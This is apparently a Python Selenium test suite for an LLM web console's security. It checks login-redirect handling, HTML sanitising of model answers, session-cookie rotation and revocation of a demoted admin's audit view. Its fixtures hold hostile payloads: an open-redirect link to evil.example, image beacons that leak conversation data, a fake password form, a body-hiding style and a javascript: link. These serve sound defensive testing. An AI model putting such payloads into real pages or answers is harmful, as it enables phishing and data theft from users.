"""The console's defences in a real browser: where a crafted login link may send it, what HTML a model answer
may put in the page, what an old session cookie is worth after signing in, and what an open admin tab shows
once its admin is demoted (docs/security.md)."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import httpx
import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import WebDriverWait

from tests.browser.conftest import ADMIN_PASSWORD, sign_in, wait_for_text
from tests.e2e.cluster import Cluster

pytestmark = pytest.mark.browser

MODEL = 'meta-llama/Llama-3.2-1B-Instruct'  # the simulated vLLM's model


class _Recorder(BaseHTTPRequestHandler):
    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A web server on this machine that records every request it gets: (its URL, the paths asked for)."""
    hits: list[str] = []
    server = ThreadingHTTPServer(('127.0.0.1', 0), type('Recorder', (_Recorder,), {'hits': hits}))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f'http://127.0.0.1:{server.server_address[1]}', hits
    finally:
        server.shutdown()
        server.server_close()


def test_a_crafted_login_link_cannot_send_the_browser_to_another_host(console: Cluster,
                                                                     browser: webdriver.Chrome) -> None:
    sign_in(browser, console.url, 'root', ADMIN_PASSWORD, login='/login?redirect_to=/%5Cevil.example/phish')
    WebDriverWait(browser, 15).until(lambda driver: '/login' not in driver.current_url
                                     and '/session/' not in driver.current_url)
    assert urlsplit(browser.current_url).netloc == urlsplit(console.url).netloc, browser.current_url
    assert urlsplit(browser.current_url).path == '/admin'  # where an admin lands without a usable redirect_to


def test_a_model_answer_cannot_put_live_html_in_the_chat(console: Cluster, browser: webdriver.Chrome,
                                                         listener: tuple[str, list[str]]) -> None:
    elsewhere, hits = listener
    console.sim_config('sim-vllm', token_delay_ms=5, reply=(
        'Here is what you asked for.\n\n'
        f'<img src="{elsewhere}/leak?d=the-conversation">\n\n'
        f'![chart]({elsewhere}/leak-markdown?d=x)\n\n'
        f'<form action="{elsewhere}/steal"><input type=password name=p><button>Sign in again</button></form>\n\n'
        '<style>body{display:none}</style>\n\n'
        '<a href="javascript:alert(1)">click me</a>\n\n'
        '```python\nprint("hello")\n```\n\n'
        'See [the guide](https://docs.example/guide).\n'))
    try:
        sign_in(browser, console.url, 'root', ADMIN_PASSWORD)
        WebDriverWait(browser, 15).until(lambda driver: driver.current_url.endswith('/admin'))
        browser.get(f'{console.url}/chat')
        wait_for_text(browser, MODEL)
        browser.find_element(By.CSS_SELECTOR, 'textarea').send_keys('Show me.', Keys.ENTER)
        wait_for_text(browser, 'completion tokens', timeout=30)  # the answer is complete and laid out
        time.sleep(1)  # time for any image the page would fetch
    finally:
        console.sim_config('sim-vllm', reply=None, token_delay_ms=50)

    assert hits == []  # nothing in the answer reached another server
    live = browser.execute_script(
        'return document.querySelectorAll(".chat-answer :is(img, form, input, button, style, iframe, script, '
        'a[href^=\\"javascript\\"]), input[type=password]").length')
    assert live == 0
    assert browser.execute_script('return getComputedStyle(document.body).display') != 'none'
    answer = str(browser.execute_script(
        'return [...document.querySelectorAll(".chat-answer")].map(e => e.innerText).join("\\n")'))
    assert '<form action=' in answer and 'click me' in answer  # what the model wrote, to read
    guide = browser.find_element(By.CSS_SELECTOR, '.chat-answer a[href="https://docs.example/guide"]')
    assert (guide.get_attribute('rel'), guide.get_attribute('target')) == ('noopener noreferrer', '_blank')
    assert browser.find_elements(By.CSS_SELECTOR, '.chat-code .codehilite')  # code is still highlighted
    assert browser.find_elements(By.CSS_SELECTOR, '.chat-copy')  # and copyable


def opens_dashboard(url: str, session_cookie: str) -> bool:
    response = httpx.get(f'{url}/dashboard', cookies={'session': session_cookie}, timeout=30)
    return response.status_code == 200


def test_the_session_cookie_from_before_signing_in_is_worthless_after(console: Cluster,
                                                                      browser: webdriver.Chrome) -> None:
    browser.get(f'{console.url}/logout')
    browser.get(f'{console.url}/login')
    WebDriverWait(browser, 15).until(lambda driver: driver.get_cookie('session'))
    before = browser.get_cookie('session')['value']  # what an attacker could have planted or read
    fields = browser.find_elements(By.CSS_SELECTOR, 'input')
    fields[0].send_keys('root')
    fields[1].send_keys(ADMIN_PASSWORD, Keys.ENTER)
    WebDriverWait(browser, 15).until(lambda driver: driver.current_url.endswith('/admin'))
    signed_in = browser.get_cookie('session')['value']

    assert signed_in != before
    assert not opens_dashboard(console.url, before)
    assert opens_dashboard(console.url, signed_in)

    browser.get(f'{console.url}/logout')
    assert browser.get_cookie('session')['value'] not in (before, signed_in)
    assert not opens_dashboard(console.url, signed_in)


def test_an_open_audit_tab_shows_nothing_more_once_its_admin_is_demoted(console: Cluster,
                                                                         browser: webdriver.Chrome) -> None:
    admin = {'X-API-Key': console.admin_key}
    created = httpx.post(f'{console.url}/api/admin/users', headers=admin, timeout=30, json={
        'username': 'auditor', 'role': 'admin', 'password': 'auditor-pass-1'})
    assert created.status_code == 201, created.text
    asked = httpx.post(f'{console.url}/v1/chat/completions', headers={'Authorization': f'Bearer {console.key}'},
                       json={'model': MODEL, 'messages': [{'role': 'user', 'content': 'my private question'}]},
                       timeout=30)
    assert asked.status_code == 200, asked.text
    deadline = time.monotonic() + 15
    while not httpx.get(f'{console.url}/api/admin/audit', params={'user': 'alice'}, headers=admin,
                        timeout=30).json()['rows']:  # audit rows are written in batches
        assert time.monotonic() < deadline
        time.sleep(0.2)

    sign_in(browser, console.url, 'auditor', 'auditor-pass-1')
    WebDriverWait(browser, 15).until(lambda driver: driver.current_url.endswith('/admin'))
    browser.get(f'{console.url}/admin/audit')
    wait_for_text(browser, 'alice')
    demoted = httpx.patch(f'{console.url}/api/admin/users/auditor', headers=admin, timeout=30,
                          json={'role': 'student', 'is_active': False})
    assert demoted.status_code == 200, demoted.text

    browser.find_element(By.XPATH, '//button[contains(., "Search")]').click()
    wait_for_text(browser, 'no longer an administrator')
    assert not browser.find_elements(By.CSS_SELECTOR, '.q-table tbody tr')
    assert 'alice' not in browser.find_element(By.CSS_SELECTOR, '.nicegui-content').text
    assert 'my private question' not in browser.page_source
